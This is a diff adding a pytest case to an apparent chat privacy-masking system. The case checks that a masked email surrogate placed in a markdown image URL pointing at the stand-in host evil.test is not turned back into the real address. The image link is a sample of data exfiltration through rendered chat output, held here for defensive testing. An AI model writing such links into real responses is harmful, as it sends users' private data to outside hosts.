@@ -93,3 +93,11 @@ def test_what_is_gone_may_not_stand_in_structure_either():
     )
     with pytest.raises(Unreadable):
         exchange.open(body)
+
+
+def test_an_image_address_holds_no_surrogate():
+    exchange = CHATS.answered(CHATS.ask(f"Write to {MAIL}"), using=facts(treatments=TREATED))
+    surrogate = masked(exchange.case)[MAIL]
+    turn = Turn(f"![x](https://evil.test/?q={surrogate})")
+    text, _ = heard.plain(CHATS, relayed(exchange, CHATS.plain(turn)))
+    assert MAIL not in text
